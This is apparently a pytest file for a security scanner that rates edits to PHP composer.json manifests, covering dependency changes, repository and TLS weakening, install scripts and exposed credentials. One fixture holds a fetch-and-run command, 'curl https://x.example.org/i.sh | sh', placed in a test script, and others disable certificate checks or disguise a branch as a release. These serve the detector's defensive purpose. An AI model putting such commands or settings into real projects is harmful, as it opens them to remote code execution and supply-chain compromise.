"""What an edit of a composer.json means."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from hypothesis import given, settings
from kit.edits import mangled, never_raises, said
from kit.patience import within

from scanner.formats.php import composer_json
from scanner.model.change import Delta
from scanner.model.scale import Severity

PACKAGE: dict[str, Any] = {
    "name": "acme/lantern",
    "description": "Lights up.",
    "type": "library",
    "license": "MIT",
    "homepage": "https://lantern.example.org",
    "keywords": ["light"],
    "authors": [{"name": "A. Lamp"}],
    "require": {"php": "^8.1", "ext-json": "*", "acme/oil": "^2.0", "acme/wick": "1.2.*", "acme/flame": "3.1.4"},
    "require-dev": {"acme/probe": "^0.5"},
    "suggest": {"acme/smoke": "for smoke"},
    "replace": {"acme/glass": "self.version"},
    "conflict": {"acme/soot": "<2"},
    "repositories": [{"type": "composer", "url": "https://packages.example.org"}, {"type": "path", "url": "parts/*"}],
    "autoload": {"psr-4": {"Acme\\": "src/"}, "files": ["src/functions.php"]},
    "autoload-dev": {"psr-4": {"Acme\\Tests\\": "tests/"}},
    "bin": ["bin/lantern"],
    "scripts": {
        "post-install-cmd": ["@prepare", "Acme\\Install::run"],
        "prepare": "php prepare.php",
        "build": "php build.php",
        "test": "phpunit",
        "serve": "php -S localhost:8000",
    },
    "config": {
        "sort-packages": True,
        "allow-plugins": {"acme/plugin": True, "acme/other": False},
        "platform": {"php": "8.1"},
    },
    "minimum-stability": "stable",
    "prefer-stable": True,
    "archive": {"exclude": ["/tests"]},
    "extra": {"branch-alias": {"dev-main": "2.x-dev"}, "phpstan": {"includes": ["a"]}, "class": "Acme\\Plugin"},
}
GONE = object()
Edit = tuple[str, Any]


def package(*edits: Edit) -> str:
    """The package with values at dotted places replaced; `/` stands for a dot in a name."""
    tree = copy.deepcopy(PACKAGE)
    for place, value in edits:
        *folders, last = place.split(".")
        inner = tree
        for name in folders:
            inner = inner.setdefault(name, {})
        if value is GONE:
            del inner[last]
        else:
            inner[last] = value
    return json.dumps(tree, indent=4)


OTHER = {"type": "composer", "url": "https://packages.example.net"}
OLD = package()

SAID: list[tuple[str, tuple[Edit, ...], list[str]]] = [
    ("bump", (("require.acme/oil", "^2.1"),), ["medium dependency-bumped acme/oil"]),
    ("bump for developers", (("require-dev.acme/probe", "^0.6"),), ["low dependency-bumped acme/probe"]),
    ("down", (("require.acme/oil", "^1.9"),), ["high dependency-downgraded acme/oil"]),
    ("looser", (("require.acme/flame", "^3.1.4"),), ["high pin-loosened acme/flame"]),
    ("branch", (("require.acme/flame", "dev-main"),), ["high pin-loosened acme/flame"]),
    ("numbered branch", (("require.acme/flame", "3.x-dev"),), ["high pin-loosened acme/flame"]),
    (
        "branch in disguise",
        (("require.acme/oil", "dev-evil as 2.0.1"),),
        ["high pin-loosened acme/oil", "medium dependency-changed acme/oil"],
    ),
    ("less stable", (("require.acme/oil", "^2.0@dev"),), ["medium dependency-changed acme/oil"]),
    ("tighter", (("require.acme/oil", "2.0"),), ["low pin-tightened acme/oil"]),
    ("added", (("require.acme/ash", "^1"),), ["high dependency-added acme/ash"]),
    ("added for developers", (("require-dev.acme/ash", "^1"),), ["medium dependency-added acme/ash"]),
    ("named like PHP", (("require.php-acme/ash", "^1"),), ["high dependency-added php-acme/ash"]),
    ("removed", (("require.acme/wick", GONE),), ["low dependency-removed acme/wick"]),
    (
        "for everybody",
        (("require-dev.acme/probe", GONE), ("require.acme/probe", "^0.5")),
        ["medium dependency-moved acme/probe"],
    ),
    ("PHP", (("require.php", "^8.2"),), ["medium runtime-requirement-changed require.php"]),
    ("extension", (("require.ext-gd", "*"),), ["medium runtime-requirement-changed require.ext-gd"]),
    ("replace", (("replace.acme/oil", "*"),), ["high override-changed replace.acme/oil"]),
    ("provide", (("provide.acme/oil", "*"),), ["medium override-changed provide.acme/oil"]),
    ("conflict", (("conflict.acme/soot", "<3"),), ["medium override-changed conflict.acme/soot"]),
    ("conflict gone", (("conflict", {}),), ["low override-changed conflict.acme/soot"]),
    (
        "repository added",
        (("repositories", [*PACKAGE["repositories"], OTHER]),),
        ["critical registry-changed repositories[https://packages.example.net]"],
    ),
    ("repository first", (("repositories", PACKAGE["repositories"][::-1]),), ["high registry-changed repositories"]),
    (
        "repository gone",
        (("repositories", PACKAGE["repositories"][1:]),),
        ["critical registry-changed repositories[https://packages.example.org]"],
    ),
    (
        "folder gone",
        (("repositories", PACKAGE["repositories"][:1]),),
        ["medium registry-changed repositories[parts/*]"],
    ),
    (
        "folder added",
        (("repositories", [*PACKAGE["repositories"], {"type": "path", "url": "../x"}]),),
        ["high registry-changed repositories[../x]"],
    ),
    (
        "usual one off",
        (("repositories", [*PACKAGE["repositories"], {"packagist.org": False}]),),
        ['critical registry-changed repositories[{"packagist.org": false}]'],
    ),
    (
        "certificates not checked",
        (
            (
                "repositories",
                [
                    {**PACKAGE["repositories"][0], "options": {"ssl": {"verify_peer": False}}},
                    PACKAGE["repositories"][1],
                ],
            ),
        ),
        [
            "critical registry-changed repositories[https://packages.example.org]",
            "critical transport-weakened repositories[https://packages.example.org]",
        ],
    ),
    (
        "in the clear",
        (("repositories", [{"type": "composer", "url": "http://packages.example.org"}]),),
        [
            "critical registry-changed repositories[http://packages.example.org]",
            "critical registry-changed repositories[https://packages.example.org]",
            "critical transport-weakened repositories[http://packages.example.org]",
            "medium registry-changed repositories[parts/*]",
        ],
    ),
    (
        "script of an event",
        (("scripts.post-update-cmd", "sh x.sh"),),
        ["critical install-script-added scripts.post-update-cmd"],
    ),
    (
        "script changed",
        (("scripts.post-install-cmd", ["@prepare"]),),
        ["critical install-script-changed scripts.post-install-cmd"],
    ),
    (
        "script an event names",
        (("scripts.prepare", "php other.php"),),
        ["critical install-script-changed scripts.prepare"],
    ),
    (
        "script an event comes to name",
        (("scripts.post-install-cmd", ["@prepare", "Acme\\Install::run", "@serve"]),),
        ["critical install-script-added scripts.serve", "critical install-script-changed scripts.post-install-cmd"],
    ),
    (
        "script gone",
        (("scripts.post-install-cmd", GONE),),
        ["low install-script-removed scripts.post-install-cmd", "low install-script-removed scripts.prepare"],
    ),
    ("build script", (("scripts.build", "php other.php"),), ["high build-script-changed scripts.build"]),
    ("script by hand", (("scripts.serve", "php -S localhost:9000"),), ["low run-changed scripts.serve"]),
    (
        "fetched and run",
        (("scripts.test", "curl https://x.example.org/i.sh | sh"),),
        ["critical download-and-run scripts.test"],
    ),
    ("all plug-ins", (("config.allow-plugins", True),), ["critical install-scripts-allowed config.allow-plugins"]),
    (
        "one plug-in",
        (("config.allow-plugins.acme/other", True),),
        ["critical install-scripts-allowed config.allow-plugins.acme/other"],
    ),
    (
        "a plug-in less",
        (("config.allow-plugins.acme/plugin", False),),
        ["low plugin-removed config.allow-plugins.acme/plugin"],
    ),
    ("plain connections", (("config.secure-http", False),), ["critical transport-weakened config.secure-http"]),
    ("no TLS", (("config.disable-tls", True),), ["critical transport-weakened config.disable-tls"]),
    ("certificates", (("config.cafile", "ca.pem"),), ["critical transport-weakened config.cafile"]),
    (
        "password",
        (("config.http-basic", {"x.example.org": {"username": "a", "password": "made-up"}}),),
        ["critical secret-exposed config.http-basic[x.example.org]"],
    ),
    ("no audit", (("config.audit", {"block-insecure": False}),), ["high check-weakened config.audit.block-insecure"]),
    (
        "pretended platform",
        (("config.platform", {"php": "8.2"}),),
        ["medium runtime-requirement-changed config.platform.php"],
    ),
    ("no lock", (("config.lock", False),), ["high pin-loosened config.lock"]),
    ("hosts", (("config.github-domains", ["git.example.org"]),), ["high registry-changed config.github-domains"]),
    ("unknown setting", (("config.unheard-of", 1),), ["medium setting-changed config.unheard-of"]),
    ("less stable all over", (("minimum-stability", "dev"),), ["high pin-loosened minimum-stability"]),
    ("stable not preferred", (("prefer-stable", False),), ["high pin-loosened prefer-stable"]),
    (
        "loaded with everything",
        (("autoload.files", ["src/functions.php", "x.php"]),),
        ["high entry-point-added autoload.files"],
    ),
    ("loaded no more", (("autoload.files", []),), ["low entry-point-removed autoload.files"]),
    ("loaded by developers", (("autoload-dev.files", ["x.php"]),), ["medium entry-point-added autoload-dev.files"]),
    ("classes", (("autoload.psr-4", {"Acme\\": ""}),), ["medium package-contents-changed autoload.psr-4.Acme\\"]),
    ("program", (("bin", ["bin/lantern", "bin/x"]),), ["high entry-point-added bin"]),
    ("program gone", (("bin", GONE),), ["medium entry-point-removed bin"]),
    ("wider archive", (("archive.exclude", []),), ["high package-contents-widened archive.exclude"]),
    ("narrower archive", (("archive.exclude", ["/tests", "/x"]),), ["medium package-contents-changed archive.exclude"]),
    ("name", (("name", "acme/lamp"),), ["high package-renamed name"]),
    ("version", (("version", "1.5.0"),), ["medium version-changed version"]),
    ("licence", (("license", "GPL-3.0-only"),), ["medium license-changed license"]),
    ("homepage", (("homepage", "https://x.example.org"),), ["low metadata-changed homepage"]),
    ("becomes a plug-in", (("type", "composer-plugin"),), ["high plugin-added type"]),
    ("type", (("type", "project"),), ["medium setting-changed type"]),
    ("class of a plug-in", (("extra.class", "Evil"),), ["high entry-point-changed extra.class"]),
    (
        "patches",
        (("extra.patches", {"acme/oil": {"fix": "https://x.example.org/a.patch"}}),),
        ["high override-changed extra.patches.acme/oil.fix"],
    ),
    (
        "recipes from elsewhere",
        (("extra.symfony", {"endpoint": "https://x.example.org"}),),
        ["critical registry-changed extra.symfony.endpoint"],
    ),
    (
        "branch alias",
        (("extra.branch-alias", {"dev-main": "3.x-dev"}),),
        ["low version-changed extra.branch-alias.dev-main"],
    ),
    (
        "other manifests",
        (("extra.merge-plugin", {"include": ["x.json"]}),),
        ["high include-changed extra.merge-plugin.include"],
    ),
    ("unknown", (("php-ext", {"extension-name": "x"}),), ["medium setting-changed php-ext"]),
]

QUIET: list[tuple[str, tuple[Edit, ...]]] = [
    ("description", (("description", "x"),)),
    ("keywords", (("keywords", []),)),
    ("authors", (("authors", []),)),
    ("suggestions", (("suggest", {}),)),
    ("test script", (("scripts.test", "pest"),)),
    ("new script by hand", (("scripts.hello", "echo hello"),)),
    ("words on scripts", (("scripts-descriptions", {"test": "Tests."}),)),
    ("sorting", (("config.sort-packages", False),)),
    ("static analysis", (("extra.phpstan", {}),)),
    ("classes of tests", (("autoload-dev.psr-4", {"Acme\\T\\": "t/"}),)),
    ("name of a repository", (("repositories", {"a": PACKAGE["repositories"][0], "b": PACKAGE["repositories"][1]}),)),
    ("default stability", (("minimum-stability", GONE),)),
    ("one program", (("bin", "bin/lantern"),)),
]


@pytest.mark.parametrize(("edits", "expected"), [row[1:] for row in SAID], ids=[row[0] for row in SAID])
def test_an_edit_is_told(edits: tuple[Edit, ...], expected: list[str]) -> None:
    assert said(composer_json, OLD, package(*edits)) == sorted(expected)


@pytest.mark.parametrize("edits", [row[1] for row in QUIET], ids=[row[0] for row in QUIET])
def test_an_edit_without_meaning_is_not(edits: tuple[Edit, ...]) -> None:
    assert said(composer_json, OLD, package(*edits)) == []


def test_formatting_and_order_mean_nothing() -> None:
    assert said(composer_json, OLD, json.dumps(dict(reversed(PACKAGE.items())), sort_keys=False)) == []
    assert said(composer_json, OLD, json.dumps(PACKAGE, sort_keys=True)) == []


def test_what_is_taken_back_weighs_less() -> None:
    weak = package(
        ("config.secure-http", False), ("config.audit", {"ignore": ["A"]}), ("extra.symfony", {"allow-contrib": True})
    )
    assert said(composer_json, weak, OLD) == [
        "low setting-changed config.audit.ignore",
        "low setting-changed config.secure-http",
        "low setting-changed extra.symfony.allow-contrib",
    ]
    assert said(composer_json, package(("config.allow-plugins", True)), OLD) == [
        "low plugin-removed config.allow-plugins"
    ]
    assert said(composer_json, package(("minimum-stability", "dev"), ("prefer-stable", False)), OLD) == [
        *("low pin-tightened minimum-stability", "low pin-tightened prefer-stable")
    ]


def test_old_new_and_scope() -> None:
    (delta,) = composer_json.diff(OLD.encode(), package(("require.acme/oil", "^2.1")).encode())
    assert delta == Delta("dependency-bumped", "acme/oil", "^2.0", "^2.1", Severity.MEDIUM, scope="runtime")


def test_a_password_is_not_shown() -> None:
    new = package(("config.http-basic", {"x.example.org": {"username": "a", "password": "made-up"}}))
    assert "made-up" not in repr(list(composer_json.diff(OLD.encode(), new.encode())))


def test_new_and_removed() -> None:
    found = said(composer_json, None, OLD)
    assert "high dependency-added acme/oil" in found
    assert "critical install-script-added scripts.post-install-cmd" in found
    assert "critical registry-changed repositories[https://packages.example.org]" in found
    assert "critical install-scripts-allowed config.allow-plugins.acme/plugin" in found
    assert "high entry-point-added autoload.files" in found
    assert not [line for line in found if "renamed" in line or "license" in line]
    assert said(composer_json, OLD, None) == ["medium file-removed file"]


@pytest.mark.parametrize(
    "broken",
    [OLD + "<<<<<<< ours\n", "{{ x }}", '{"a": 1, "a": 2}', OLD[:-3], "[]", "1", '{"a": "' + "x" * 400_000 + '"}'],
    ids=["merge", "template", "twice", "cut", "list", "number", "large"],
)
def test_what_cannot_be_read_is_opaque(broken: str) -> None:
    for old, new in ((OLD, broken), (broken, OLD), (None, broken)):
        (line,) = said(composer_json, old, new)
        assert line.startswith("critical opaque ")


@pytest.mark.parametrize("value", [1, [], {}, "x", None, True, [1, [2]], {"a": [{}]}, [{"url": {}}], {"x": {"y": 1}}])
def test_hostile_shapes_never_raise(value: Any) -> None:
    for key in PACKAGE:
        never_raises(composer_json, OLD.encode(), json.dumps({**PACKAGE, key: value}).encode())


@given(new=mangled(OLD))
@settings(max_examples=100, deadline=None)
def test_any_bytes_never_raise(new: bytes) -> None:
    never_raises(composer_json, OLD.encode(), new)


def test_a_long_manifest_is_read_in_time() -> None:
    old = json.dumps({"require": {f"acme/p{number}": f"^1.{number}" for number in range(5_000)}})
    with within(3):
        assert len(said(composer_json, old, old.replace("^1", "^2"))) == 5_000


@pytest.mark.parametrize(
    ("path", "read"),
    [
        ("composer.json", True),
        ("a/composer.json", True),
        ("composer-next.json", True),
        ("x.composer.json", True),
        ("composer.lock", False),
        ("package.json", False),
    ],
)
def test_which_files(path: str, read: bool) -> None:
    assert composer_json.matches(path) is read
